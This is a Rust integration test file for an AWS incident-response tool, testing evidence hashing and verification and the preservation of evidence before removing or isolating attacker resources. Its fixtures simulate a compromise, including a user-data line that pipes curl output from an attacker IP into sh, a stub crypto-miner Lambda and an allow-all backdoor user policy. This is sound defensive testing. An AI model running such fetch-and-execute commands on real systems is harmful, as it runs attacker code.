//! Evidence before eradication, through the real binary: `keyspill evidence verify` on an
//! incident's evidence directory, and (under tmux against moto) the plans that keep evidence
//! before they remove or isolate.

use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use aws_sdk_ec2::types::{
    BlockDeviceMapping, EbsBlockDevice, Filter, IamInstanceProfileSpecification, InstanceType,
};
use aws_sdk_s3::primitives::ByteStream;
use keyspill_aws::Aws;
use serde_json::{Value, json};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

use crate::common::tmux::{Tmux, creds};
use crate::common::{Moto, MotoOptions, aws_root, user_with_keys};

use keyspill::runtime::evidence::{Store, sha256_hex};
use keyspill_core::resources::evidence::{Kept, KeptFile, KeptSnapshot, ManifestEntry};
use keyspill_core::resources::{Kind, ResourceRef};

fn keyspill() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_keyspill"));
    // No AWS anywhere: verifying needs none.
    c.env_remove("AWS_PROFILE")
        .env("AWS_ACCESS_KEY_ID", "")
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
    c
}

fn verify(dir: &Path) -> Output {
    keyspill()
        .args(["evidence", "verify"])
        .arg(dir)
        .output()
        .expect("runs")
}

/// An incident directory with one instance's evidence kept in it.
fn incident() -> (tempfile::TempDir, Vec<ManifestEntry>) {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Store::new(dir.path());
    let kept = Kept {
        files: vec![
            KeptFile {
                name: "description.json".into(),
                what: "description (ec2:DescribeInstances)".into(),
                bytes: b"{\"InstanceId\":\"i-0e2e\"}".to_vec(),
            },
            KeptFile {
                name: "user-data.bin".into(),
                what: "user data (ec2:DescribeInstanceAttribute)".into(),
                bytes: b"#!/bin/sh\ncurl http://203.0.113.66/x | sh\n".to_vec(),
            },
        ],
        snapshots: vec![KeptSnapshot {
            snapshot_id: "snap-0e2e".into(),
            volume_id: "vol-0e2e".into(),
            device: "/dev/xvda".into(),
            state: "pending".into(),
        }],
        notes: vec![],
    };
    let target = ResourceRef {
        kind: Kind::Instance,
        region: "eu-west-1".into(),
        id: "i-0e2e".into(),
        account: None,
    };
    let entries = store
        .save(
            &target,
            None,
            &kept,
            "act-1",
            time::OffsetDateTime::now_utc(),
        )
        .expect("saved");
    (dir, entries)
}

#[test]
fn verify_passes_on_untouched_evidence_from_either_directory() {
    let (dir, entries) = incident();
    // The manifest's hashes are the files' own, checked here without keyspill's code.
    for e in entries.iter().filter(|e| e.file.is_some()) {
        let path = dir
            .path()
            .join("evidence")
            .join(e.file.as_deref().expect("file"));
        let bytes = std::fs::read(&path).expect("kept file");
        assert_eq!(e.bytes, Some(bytes.len() as u64));
        assert_eq!(e.sha256.as_deref(), Some(sha256_hex(&bytes).as_str()));
    }
    for d in [dir.path().to_path_buf(), dir.path().join("evidence")] {
        let out = verify(&d);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("2 files match, 0 changed, 0 missing, 0 not in the manifest"),
            "{text}"
        );
        assert!(text.contains("1 snapshot listed"), "{text}");
        assert_eq!(text.lines().count(), 1, "{text}");
    }
}

#[test]
fn verify_fails_naming_each_changed_missing_and_unlisted_file() {
    let (dir, entries) = incident();
    let ev = dir.path().join("evidence");
    let desc = entries[1].file.clone().expect("file");
    let user_data = entries[2].file.clone().expect("file");
    std::fs::write(ev.join(&desc), b"{\"InstanceId\":\"i-0e2f\"}").expect("tamper");
    std::fs::remove_file(ev.join(&user_data)).expect("remove");
    std::fs::write(ev.join("eu-west-1/extra.txt"), b"?").expect("plant");
    let out = verify(dir.path());
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.lines()
            .any(|l| l.starts_with("changed: ") && l.contains(&desc) && l.contains("SHA-256")),
        "{text}"
    );
    assert!(text.contains(&format!("missing: {user_data}")), "{text}");
    assert!(
        text.contains("not in the manifest: eu-west-1/extra.txt"),
        "{text}"
    );
    assert!(
        text.contains("0 files match, 1 changed, 1 missing, 1 not in the manifest"),
        "{text}"
    );
}

#[test]
fn verify_without_a_manifest_is_a_usage_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = verify(dir.path());
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("holds no evidence manifest"),
        "{out:?}"
    );
    let out = keyspill()
        .args(["evidence", "check"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

// ---- end to end under tmux against moto ----

const AMI: &str = "ami-03cf127a";
const REGION: &str = "eu-west-1";
const TRAIL_BUCKET: &str = "org-trail-logs";
const ACCT: &str = "123456789012";

fn rfc3339(t: OffsetDateTime) -> String {
    t.format(&Rfc3339).expect("time")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(bytes).expect("gzip");
    e.finish().expect("gzip")
}

/// A CloudTrail record of a write call made with the leaked key.
fn record(n: usize, at: OffsetDateTime, key: &str, source: &str, name: &str, v: Value) -> Value {
    json!({
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "IAMUser",
            "arn": "arn:aws:iam::123456789012:user/dev-alice",
            "accountId": ACCT,
            "accessKeyId": key,
            "userName": "dev-alice"
        },
        "eventTime": rfc3339(at),
        "eventSource": format!("{source}.amazonaws.com"),
        "eventName": name,
        "awsRegion": REGION,
        "sourceIPAddress": "203.0.113.66",
        "userAgent": "Boto3/1.34.0",
        "requestParameters": v["request"],
        "responseElements": v["response"],
        "eventID": format!("0e7e0000-0000-4000-8000-{n:012}"),
        "readOnly": false,
        "eventType": "AwsApiCall",
        "recipientAccountId": ACCT
    })
}

/// The attacker's world: an instance (with an extra EBS volume, optionally an instance
/// profile), optionally a Lambda function and a backdoor user with a policy; the trail records
/// saying the leaked key made them.
struct Scene {
    moto: Moto,
    root: Aws,
    me: String,
    secret: String,
    leaked: String,
    since: OffsetDateTime,
    instance: String,
    /// The EBS volumes attached to it when planted.
    volumes: Vec<String>,
    /// The function's deployed package, when there is one.
    package: Option<Vec<u8>>,
    journal: tempfile::TempDir,
}

async fn scene(full: bool, profile: bool, record_requests: bool) -> Scene {
    let moto = Moto::start_with(MotoOptions {
        record: record_requests,
        ..Default::default()
    });
    let root = aws_root(&moto).await;
    let (me, secret) = user_with_keys(&root, "ir-responder", 1).await.remove(0);
    let (leaked, _) = user_with_keys(&root, "dev-alice", 1).await.remove(0);
    let profile = if profile {
        let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#;
        root.iam
            .create_role()
            .role_name("miner-role")
            .assume_role_policy_document(trust)
            .send()
            .await
            .expect("role");
        root.iam
            .create_instance_profile()
            .instance_profile_name("miner-profile")
            .send()
            .await
            .expect("profile");
        root.iam
            .add_role_to_instance_profile()
            .instance_profile_name("miner-profile")
            .role_name("miner-role")
            .send()
            .await
            .expect("add role");
        Some("miner-profile")
    } else {
        None
    };
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let since = OffsetDateTime::now_utc();
    tokio::time::sleep(Duration::from_millis(1100)).await;

    let instance = root
        .ec2_in(REGION)
        .run_instances()
        .image_id(AMI)
        .instance_type(InstanceType::T3Micro)
        .min_count(1)
        .max_count(1)
        .block_device_mappings(
            BlockDeviceMapping::builder()
                .device_name("/dev/sdb")
                .ebs(EbsBlockDevice::builder().volume_size(8).build())
                .build(),
        )
        .set_iam_instance_profile(
            profile.map(|p| IamInstanceProfileSpecification::builder().name(p).build()),
        )
        .send()
        .await
        .expect("run instance")
        .instances()[0]
        .instance_id()
        .expect("id")
        .to_string();

    let volumes: Vec<String> = root
        .ec2_in(REGION)
        .describe_volumes()
        .filters(
            Filter::builder()
                .name("attachment.instance-id")
                .values(&instance)
                .build(),
        )
        .send()
        .await
        .expect("volumes")
        .volumes()
        .iter()
        .filter_map(|v| v.volume_id().map(str::to_string))
        .collect();
    assert!(!volumes.is_empty(), "the instance has an EBS volume");

    let at = since + time::Duration::seconds(1);
    let mut records = vec![record(
        1,
        at,
        &leaked,
        "ec2",
        "RunInstances",
        json!({"request": {"instanceType": "t3.micro"},
               "response": {"instancesSet": {"items": [{"instanceId": instance}]}}}),
    )];
    let mut package = None;
    if full {
        let zip = b"PK\x03\x04 miner.py: import socket; mine('pool.example:3333')".to_vec();
        crate::common::deploy_function(&root, REGION, "miner", &zip, &zip, &[]).await;
        package = Some(zip);
        user_with_keys(&root, "backup-svc-2", 1).await;
        root.iam
            .put_user_policy()
            .user_name("backup-svc-2")
            .policy_name("all")
            .policy_document(
                r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#,
            )
            .send()
            .await
            .expect("inline policy");
        records.push(record(
            2,
            at,
            &leaked,
            "lambda",
            "CreateFunction20150331",
            json!({"request": {"functionName": "miner"}, "response": {"functionName": "miner"}}),
        ));
        records.push(record(
            3,
            at,
            &leaked,
            "iam",
            "CreateUser",
            json!({"request": {"userName": "backup-svc-2"},
                   "response": {"user": {"userName": "backup-svc-2"}}}),
        ));
    }

    root.s3
        .create_bucket()
        .bucket(TRAIL_BUCKET)
        .send()
        .await
        .expect("bucket");
    root.cloudtrail_in("us-east-1")
        .create_trail()
        .name("org-trail")
        .s3_bucket_name(TRAIL_BUCKET)
        .is_multi_region_trail(true)
        .send()
        .await
        .expect("trail");
    let (y, m, d) = (at.year(), u8::from(at.month()), at.day());
    let key = format!(
        "AWSLogs/{ACCT}/CloudTrail/{REGION}/{y:04}/{m:02}/{d:02}/\
         {ACCT}_CloudTrail_{REGION}_{y:04}{m:02}{d:02}T{:02}{:02}Z_e7e0000000000001.json.gz",
        at.hour(),
        at.minute()
    );
    let body = serde_json::to_vec(&json!({ "Records": records })).expect("json");
    root.s3
        .put_object()
        .bucket(TRAIL_BUCKET)
        .key(key)
        .body(ByteStream::from(gzip(&body)))
        .send()
        .await
        .expect("put log");

    Scene {
        moto,
        root,
        me,
        secret,
        leaked,
        since,
        instance,
        volumes,
        package,
        journal: tempfile::tempdir().expect("journal dir"),
    }
}

impl Scene {
    fn console(&self, extra: &[&str]) -> Tmux {
        let jdir = self.journal.path().display().to_string();
        let since = rfc3339(self.since);
        let mut args = vec![
            "--key",
            self.leaked.as_str(),
            "--since",
            since.as_str(),
            "--regions",
            REGION,
            "--journal",
            jdir.as_str(),
        ];
        args.extend_from_slice(extra);
        let t = Tmux::start(&creds(&self.moto, &self.me, &self.secret), &args);
        t.wait_for("acct 123456789012", Duration::from_secs(20));
        t.keys(&["3"]);
        t
    }

    /// Waits until every name is on a LEAKED KEY row of the Resources tab.
    fn attributed(&self, t: &Tmux, names: &[&str]) {
        let start = Instant::now();
        loop {
            let screen = t.screen();
            let rows: Vec<&str> = screen
                .lines()
                .filter(|l| l.contains("LEAKED KEY"))
                .collect();
            if names.iter().all(|n| rows.iter().any(|r| r.contains(n))) {
                return;
            }
            assert!(
                start.elapsed() < Duration::from_secs(45),
                "not attributed: {names:?}; the screen shows:\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    fn journal_entries(&self) -> Vec<Value> {
        std::fs::read_to_string(self.journal.path().join("journal.jsonl"))
            .expect("journal")
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn incident_id(&self) -> String {
        self.journal
            .path()
            .file_name()
            .expect("name")
            .to_string_lossy()
            .into_owned()
    }

    /// Snapshots in moto carrying the incident tag (any value).
    async fn tagged_snapshots(&self) -> Vec<aws_sdk_ec2::types::Snapshot> {
        self.root
            .ec2_in(REGION)
            .describe_snapshots()
            .filters(
                Filter::builder()
                    .name("tag-key")
                    .values(keyspill_core::resources::evidence::INCIDENT_TAG)
                    .build(),
            )
            .send()
            .await
            .expect("snapshots")
            .snapshots()
            .to_vec()
    }

    async fn instance_state(&self) -> (String, Vec<String>) {
        let out = self
            .root
            .ec2_in(REGION)
            .describe_instances()
            .instance_ids(&self.instance)
            .send()
            .await
            .expect("describe");
        let i = &out.reservations()[0].instances()[0];
        let state = i
            .state()
            .and_then(|s| s.name())
            .map(|n| n.as_str().to_string())
            .unwrap_or_default();
        let groups = i
            .security_groups()
            .iter()
            .filter_map(|g| g.group_id().map(str::to_string))
            .collect();
        (state, groups)
    }
}

fn preservations(entries: &[Value]) -> Vec<&Value> {
    entries
        .iter()
        .filter(|e| e["kind"] == "preservation")
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_removal_keeps_evidence_first_then_removes() {
    let s = scene(true, false, false).await;
    let t = s.console(&[]);
    s.attributed(&t, &[&s.instance, "miner", "backup-svc-2"]);
    // The user's parts are read after the sweep: ask until the plan lists its policy.
    let start = Instant::now();
    let dialog = loop {
        t.keys(&["a", "t"]);
        let dialog = t.wait_for("confirm", Duration::from_secs(5));
        if dialog.contains("delete inline policy") || start.elapsed() > Duration::from_secs(25) {
            break dialog;
        }
        t.keys(&["Escape"]);
        std::thread::sleep(Duration::from_millis(500));
    };
    for want in [
        "keep evidence: save description, user data, console output",
        "keep evidence: snapshot its EBS volumes (tagged)",
        "keep evidence: save code package and configuration (environment values masked)",
        "keep evidence: save policy documents",
        "delete inline policy",
    ] {
        assert!(dialog.contains(want), "{want}: {dialog}");
    }
    t.type_text("3");
    t.keys(&["Enter"]);
    let done = t.wait_for("finished", Duration::from_secs(90));
    assert!(!done.contains('✗'), "a step failed:\n{done}");

    // The evidence directory and its manifest: every hash matches, through keyspill's own
    // verify and read here independently.
    let ev = s.journal.path().join("evidence");
    let manifest = std::fs::read_to_string(ev.join("manifest.jsonl")).expect("manifest");
    let entries: Vec<ManifestEntry> = manifest
        .lines()
        .map(|l| serde_json::from_str(l).expect("a manifest line"))
        .collect();
    let files: Vec<&ManifestEntry> = entries.iter().filter(|e| e.file.is_some()).collect();
    assert!(files.len() >= 4, "{manifest}");
    for e in &files {
        let bytes = std::fs::read(ev.join(e.file.as_deref().expect("file"))).expect("kept");
        assert_eq!(
            e.sha256.as_deref(),
            Some(sha256_hex(&bytes).as_str()),
            "{e:?}"
        );
        assert_eq!(e.bytes, Some(bytes.len() as u64));
    }
    let out = verify(s.journal.path());
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // The package kept is the one deployed.
    let package = files
        .iter()
        .find(|e| e.kind == "lambda" && e.file.as_deref().is_some_and(|f| f.ends_with(".zip")))
        .expect("the package in the manifest");
    assert_eq!(
        std::fs::read(ev.join(package.file.as_deref().expect("file"))).expect("package"),
        s.package.clone().expect("deployed")
    );
    // Each kept resource has its own directory.
    for (kind, id) in [
        ("instance", s.instance.as_str()),
        ("lambda", "miner"),
        ("iam-user", "backup-svc-2"),
    ] {
        assert!(
            files.iter().any(|e| e.kind == kind && e.id == id),
            "nothing kept of {kind} {id}: {manifest}"
        );
    }

    // The snapshots: in moto, tagged with this incident and the instance.
    let snaps = s.tagged_snapshots().await;
    let mut snapped: Vec<String> = snaps
        .iter()
        .filter_map(|x| x.volume_id().map(str::to_string))
        .collect();
    snapped.sort();
    let mut volumes = s.volumes.clone();
    volumes.sort();
    assert_eq!(snapped, volumes, "one snapshot per EBS volume: {snaps:?}");
    let incident = s.incident_id();
    for snap in &snaps {
        let tag = |k: &str| {
            snap.tags()
                .iter()
                .find(|t| t.key() == Some(k))
                .and_then(|t| t.value())
                .map(str::to_string)
        };
        assert_eq!(tag("keyspill:incident"), Some(incident.clone()));
        assert_eq!(tag("keyspill:instance"), Some(s.instance.clone()));
        let id = snap.snapshot_id().expect("id");
        assert!(
            entries.iter().any(|e| e.snapshot_id.as_deref() == Some(id)),
            "{id} not in the manifest"
        );
    }

    // The journal: the operator's choices, then each kept thing as the manifest has it.
    let journal = s.journal_entries();
    let p = preservations(&journal);
    assert_eq!(p.len(), 1, "{journal:?}");
    assert_eq!(p[0]["skipped"], false);
    assert_eq!(p[0]["environment_values"], false);
    let kept: Vec<ManifestEntry> = journal
        .iter()
        .filter(|e| e["kind"] == "kept")
        .map(|e| serde_json::from_value(e["entry"].clone()).expect("a kept entry"))
        .collect();
    assert_eq!(kept, entries);

    // The resources are gone.
    let (state, _) = s.instance_state().await;
    assert!(state == "terminated" || state == "shutting-down", "{state}");
    assert!(
        s.root
            .lambda_in(REGION)
            .get_function()
            .function_name("miner")
            .send()
            .await
            .is_err()
    );
    assert!(
        s.root
            .iam
            .get_user()
            .user_name("backup-svc-2")
            .send()
            .await
            .is_err()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn isolation_keeps_the_instance_running_cut_off() {
    let s = scene(false, true, false).await;
    let t = s.console(&[]);
    s.attributed(&t, &[&s.instance]);
    t.keys(&["a", "i"]);
    let dialog = t.wait_for("confirm", Duration::from_secs(5));
    assert!(dialog.contains("replace its security groups"), "{dialog}");
    assert!(dialog.contains("keep evidence"), "{dialog}");
    t.type_text("1");
    t.keys(&["Enter"]);
    let done = t.wait_for("finished", Duration::from_secs(60));
    assert!(!done.contains('✗'), "a step failed:\n{done}");

    let (state, groups) = s.instance_state().await;
    assert_eq!(state, "running");
    assert_eq!(groups.len(), 1, "{groups:?}");
    let ec2 = s.root.ec2_in(REGION);
    let g = ec2
        .describe_security_groups()
        .group_ids(&groups[0])
        .send()
        .await
        .expect("group");
    let g = &g.security_groups()[0];
    assert_eq!(g.group_name(), Some("keyspill-isolation"));
    assert!(g.ip_permissions().is_empty(), "{g:?}");
    assert!(g.ip_permissions_egress().is_empty(), "{g:?}");
    let protection = ec2
        .describe_instance_attribute()
        .instance_id(&s.instance)
        .attribute(aws_sdk_ec2::types::InstanceAttributeName::DisableApiTermination)
        .send()
        .await
        .expect("attribute");
    assert_eq!(
        protection.disable_api_termination().and_then(|v| v.value()),
        Some(true)
    );
    let assoc = ec2
        .describe_iam_instance_profile_associations()
        .filters(
            Filter::builder()
                .name("instance-id")
                .values(&s.instance)
                .build(),
        )
        .send()
        .await
        .expect("associations");
    assert!(
        assoc
            .iam_instance_profile_associations()
            .iter()
            .all(|a| a.state().map(|x| x.as_str()) != Some("associated")),
        "{assoc:?}"
    );
    // Its evidence was kept first, and the plan journaled it.
    assert!(!s.tagged_snapshots().await.is_empty());
    assert_eq!(verify(s.journal.path()).status.code(), Some(0));
    let journal = s.journal_entries();
    assert_eq!(preservations(&journal)[0]["skipped"], false);
}

#[tokio::test(flavor = "multi_thread")]
async fn skipping_evidence_asks_for_no_evidence_and_keeps_nothing() {
    let s = scene(false, false, false).await;
    let t = s.console(&[]);
    s.attributed(&t, &[&s.instance]);
    t.keys(&["a", "t"]);
    let dialog = t.wait_for("confirm", Duration::from_secs(5));
    assert!(dialog.contains("keep evidence"), "{dialog}");
    t.keys(&["Tab"]);
    let off = t.wait_for("OFF", Duration::from_secs(5));
    assert!(
        !off.contains("keep evidence:"),
        "the keep steps vanish: {off}"
    );
    t.type_text("1");
    t.keys(&["Enter"]);
    t.wait_for("Warning: no evidence is kept", Duration::from_secs(5));
    t.type_text("NO EVIDENCE");
    t.keys(&["Enter"]);
    let done = t.wait_for("finished", Duration::from_secs(60));
    assert!(!done.contains('✗'), "a step failed:\n{done}");

    let (state, _) = s.instance_state().await;
    assert!(state == "terminated" || state == "shutting-down", "{state}");
    let ev = s.journal.path().join("evidence");
    let kept = std::fs::read_dir(&ev).map(|d| d.count()).unwrap_or(0);
    assert_eq!(kept, 0, "nothing is kept");
    assert!(s.tagged_snapshots().await.is_empty());
    let journal = s.journal_entries();
    let p = preservations(&journal);
    assert_eq!(p.len(), 1, "{journal:?}");
    assert_eq!(p[0]["skipped"], true);
    assert!(!journal.iter().any(|e| e["kind"] == "kept"));
}

#[tokio::test(flavor = "multi_thread")]
async fn read_only_refuses_removal_isolation_and_keeping() {
    let s = scene(false, false, true).await;
    let t = s.console(&["--read-only"]);
    s.attributed(&t, &[&s.instance]);
    t.keys(&["a"]);
    for k in ["t", "i", "e"] {
        t.keys(&[k]);
        let screen = t.wait_for(
            "READ-ONLY: keyspill was started with --read-only",
            Duration::from_secs(5),
        );
        assert!(
            !screen.contains("to confirm"),
            "{k}: no dialog opens: {screen}"
        );
        assert!(
            screen.contains("Resources ·"),
            "{k}: still on Resources: {screen}"
        );
    }
    std::thread::sleep(Duration::from_millis(1000));
    let (state, _) = s.instance_state().await;
    assert_eq!(state, "running");
    assert!(s.tagged_snapshots().await.is_empty());
    assert!(!s.journal.path().join("evidence").exists());
    let requests = s.moto.recorded_requests();
    assert!(
        !requests.iter().any(|r| r.contains("CreateSnapshot")
            || r.contains("TerminateInstances")
            || r.contains("ModifyInstanceAttribute")),
        "{requests:?}"
    );
}
